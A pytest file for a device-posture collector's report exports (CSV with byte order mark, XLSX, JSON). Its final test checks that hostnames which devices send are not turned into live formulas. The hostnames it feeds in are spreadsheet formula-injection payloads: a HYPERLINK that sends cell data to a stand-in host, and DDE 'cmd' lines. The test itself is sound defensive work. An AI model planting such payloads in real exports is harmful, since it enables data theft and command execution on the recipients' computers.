"""Exports people open: CSV with Excel's UTF-8 byte order mark, XLSX read back with openpyxl
(header, widths, frozen header, numbers as numbers, times as dates), JSON numbers as numbers,
for every report view, written by the real CLI to `--output FILE` or a pipe; XLSX refused on
a terminal."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.utils import get_column_letter

from devposture.collector.cli import main as collector_cli
from devposture.collector.reports import (
    DEVICE_COLUMNS,
    FAILING_COLUMNS,
    FLEET_COLUMNS,
    HISTORY_COLUMNS,
)
from devposture.policy import default_policy
from tests.collector.cli_fleet import DEVICES, REASON, CliFleet, cli_fleet
from tests.collector.on_terminal import run_on_terminal

__all__ = ["cli_fleet"]  # the fixture
COLLECTOR = str(Path(sys.executable).parent / "devposture-collector")
FIRST = DEVICES[0][0]
VIEWS = {
    "fleet": ((), FLEET_COLUMNS),
    "device": ((), DEVICE_COLUMNS),
    "failing": ((), FAILING_COLUMNS),
    "history": ((FIRST,), HISTORY_COLUMNS),
}
UTF8_BOM = b"\xef\xbb\xbf"


def _export(fleet: CliFleet, tmp_path: Path, view: str, fmt: str) -> bytes:
    extra, _ = VIEWS[view]
    out = tmp_path / f"{view}.{fmt}"
    code = collector_cli(["report", view, *extra, "--data", str(fleet.data), "--format", fmt,
                          "--output", str(out)])  # fmt: skip
    assert code == 0
    return out.read_bytes()


@pytest.mark.parametrize("view", VIEWS)
def test_csv_carries_excel_s_byte_order_mark_and_the_clause_texts(
    cli_fleet: CliFleet, tmp_path: Path, view: str
) -> None:
    data = _export(cli_fleet, tmp_path, view, "csv")
    assert data.startswith(UTF8_BOM)
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == list(VIEWS[view][1])
    assert rows
    firewall = [r for r in rows if r[header.index("check")] == "firewall"]
    clause = default_policy().clause("6.3.1")
    assert firewall[0][header.index("clause_text_zh")] == clause.text_zh


@pytest.mark.parametrize("view", VIEWS)
def test_json_numbers_are_numbers(cli_fleet: CliFleet, tmp_path: Path, view: str) -> None:
    rows = json.loads(_export(cli_fleet, tmp_path, view, "json"))
    assert rows and all(list(row) == list(VIEWS[view][1]) for row in rows)
    numbers = {"fleet": ("devices", "pass", "fail", "pass_rate_percent"), "device": (),
               "failing": ("days",), "history": ("hours",)}[view]  # fmt: skip
    for row in rows:
        for column in numbers:
            assert isinstance(row[column], int | float) and not isinstance(row[column], bool), (
                column, row[column],
            )  # fmt: skip
    if view == "fleet":
        firewall = next(r for r in rows if r["check"] == "firewall")
        assert firewall["pass_rate_percent"] == 0.0 and firewall["fail"] == len(DEVICES)


@pytest.mark.parametrize("view", VIEWS)
def test_xlsx_is_a_sheet_people_can_read(cli_fleet: CliFleet, tmp_path: Path, view: str) -> None:
    book = load_workbook(io.BytesIO(_export(cli_fleet, tmp_path, view, "xlsx")))
    (sheet,) = book.worksheets
    assert sheet.title == f"report {view}"
    columns = list(VIEWS[view][1])
    header = [c.value for c in sheet[1]]
    assert header == columns
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    # As wide as the contents: the clause's text is wide, the clause id narrow.
    width = {name: sheet.column_dimensions[get_column_letter(i)].width
             for i, name in enumerate(columns, start=1)}  # fmt: skip
    assert width["clause_text_zh"] > 2 * width["clause"]
    rows = [dict(zip(columns, (c.value for c in line), strict=True))
            for line in sheet.iter_rows(min_row=2)]  # fmt: skip
    assert rows
    clause = default_policy().clause("6.3.1")
    firewall = [r for r in rows if r["check"] == "firewall"]
    assert firewall[0]["clause_text_zh"] == clause.text_zh
    assert firewall[0]["clause_text_en"] == clause.text_en
    if view == "fleet":
        assert firewall[0]["devices"] == len(DEVICES) and firewall[0]["pass_rate_percent"] == 0
        assert sheet.cell(row=2, column=columns.index("devices") + 1).data_type == "n"
    if view == "failing":
        since = firewall[0]["failing_since"]
        # A date Excel sorts, in the company's time zone (Beijing time by default), named.
        assert isinstance(since, dt.datetime)
        beijing = dt.timezone(dt.timedelta(hours=8))
        expected = (cli_fleet.now - dt.timedelta(days=3)).astimezone(beijing).replace(tzinfo=None)
        assert abs(since - expected) < dt.timedelta(seconds=1)
        cell = sheet.cell(row=2, column=columns.index("failing_since") + 1)
        assert isinstance(cell, Cell) and cell.is_date and "UTC+08:00" in cell.number_format
        assert isinstance(firewall[0]["days"], int | float) and firewall[0]["days"] >= 2.9
        assert firewall[0]["reason"] == REASON
    if view == "history":
        assert {r["until"] for r in rows} >= {"now"}  # a text where a moment is not one
        assert all(isinstance(r["from"], dt.datetime) for r in rows)


def test_xlsx_goes_to_a_pipe_but_never_to_a_terminal(
    cli_fleet: CliFleet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    argv = [COLLECTOR, "report", "fleet", "--data", str(cli_fleet.data), "--format", "xlsx"]
    piped = subprocess.run(argv, capture_output=True, timeout=120, check=False)
    assert piped.returncode == 0, piped.stderr
    assert load_workbook(io.BytesIO(piped.stdout)).worksheets[0].max_row == 7  # 6 checks
    shown = run_on_terminal(argv)
    assert shown.code == 1 and shown.out == ""
    assert "--output FILE.xlsx" in shown.err
    with monkeypatch.context() as chinese:
        chinese.setenv("LANG", "zh_CN.UTF-8")
        assert "--output 文件名.xlsx" in run_on_terminal(argv).err
    written = run_on_terminal([*argv, "--output", str(tmp_path / "fleet.xlsx")])
    assert written.code == 0, written.err
    assert f"wrote {tmp_path / 'fleet.xlsx'}" in written.err
    assert load_workbook(tmp_path / "fleet.xlsx").worksheets[0].max_row == 7


def test_every_listing_offers_the_file_formats(
    cli_fleet: CliFleet, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not the report views only: devices, waivers, tokens, the audit log and credentials."""
    data = str(cli_fleet.data)
    for command in (["device", "list"], ["waiver", "list"], ["token", "list"],
                    ["audit", "log"], ["admin", "list"], ["device", "show", FIRST]):  # fmt: skip
        out = tmp_path / ("-".join(command) + ".xlsx")
        assert collector_cli([*command, "--data", data, "--format", "xlsx", "-o", str(out)]) == 0
        sheet = load_workbook(out).worksheets[0]
        assert sheet.title == " ".join(command[:2]) and sheet.freeze_panes == "A2"
    capsys.readouterr()
    assert collector_cli(["device", "list", "--data", data, "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("\ufeffdevice,hostname,group")


@pytest.mark.parametrize(
    "hostname",
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
)  # fmt: skip
def test_a_value_a_device_sends_is_never_a_formula_in_a_download(hostname: str) -> None:
    # A device names itself: as XLSX a text starting with "=" was written as a formula that
    # Excel runs; as CSV "=", "+", "-" and "@" start one in Excel and WPS. Kept as text.
    from devposture.collector.render import csv_text  # noqa: PLC0415
    from devposture.collector.xlsx import workbook  # noqa: PLC0415

    rows = [{"device": "d1", "hostname": hostname, "failing": -3}]
    book = load_workbook(io.BytesIO(workbook(rows, ("device", "hostname", "failing"), title="x")))
    cell = book.active["B2"]  # type: ignore[index]
    assert cell.data_type == "s" and cell.value == hostname
    assert book.active["C2"].value == -3  # type: ignore[index]  # numbers stay numbers
    (line,) = list(csv.reader(io.StringIO(csv_text(rows, ("hostname", "failing")))))[1:]
    assert line == ["'" + hostname, "-3"]
